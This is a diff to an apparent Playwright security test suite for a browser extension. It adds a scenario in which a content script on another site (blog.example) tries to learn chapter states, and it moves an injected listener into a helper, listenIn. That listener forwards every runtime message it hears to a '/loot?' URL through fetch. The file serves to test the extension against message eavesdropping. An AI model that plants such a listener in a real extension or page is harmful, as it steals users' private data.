@@ -3,8 +3,9 @@
  * mark the chapter that it shows. All else is still judged by where it comes from.
  */
 import { randomUUID } from 'node:crypto';
-import type { Page } from '@playwright/test';
+import { expect, type Page } from '@playwright/test';
 import { inContentWorld } from '../../support/content-world.ts';
+import { turnOff, turnOn } from '../../support/link-sites.ts';
 import type { Attack, Scene } from '../attack.ts';
 import { markInNewTab } from '../person.ts';
 
@@ -71,12 +72,26 @@ export const within: readonly Attack[] = [
     against: 'told-apart',
     wants: 'secret',
     play: async ({ arena, page, other, meant }) => {
-      await inContentWorld(
-        page,
-        `chrome.runtime.onMessage.addListener((told) => void fetch('/loot?' + encodeURIComponent(JSON.stringify(told))))`,
-      );
+      await listenIn(page);
       meant.add(other.id);
       await markInNewTab(arena, other);
+    },
+  },
+  {
+    name: 'that has become our script on another site hears what becomes of a chapter that its tab showed before',
+    against: 'told-by-document',
+    wants: 'secret',
+    play: async ({ arena, page, other, meant }) => {
+      const { extension, options } = arena;
+      await turnOn(extension, options, 'blog.example');
+      const question = { name: 'chapter.states', input: { chapterIds: [other.id] } };
+      await inContentWorld(page, `chrome.runtime.sendMessage(${JSON.stringify(question)})`);
+      // A page without links: it asks about no chapters of its own.
+      await page.goto('https://blog.example/nothing-here');
+      await expect(() => listenIn(page)).toPass();
+      meant.add(other.id);
+      await markInNewTab(arena, other);
+      await turnOff(options, 'blog.example');
     },
   },
 ];
@@ -86,6 +101,14 @@ function said(messageOf: (scene: Scene) => unknown) {
   return async (scene: Scene) => {
     await inContentWorld(scene.page, `chrome.runtime.sendMessage(${JSON.stringify(messageOf(scene))})`);
   };
+}
+
+/** Brings home whatever our script in the page is told from now on. */
+async function listenIn(page: Page): Promise<void> {
+  await inContentWorld(
+    page,
+    `chrome.runtime.onMessage.addListener((told) => void fetch('/loot?' + encodeURIComponent(JSON.stringify(told))))`,
+  );
 }
 
 async function bringFromStorage(page: Page, area: 'local' | 'session'): Promise<void> {
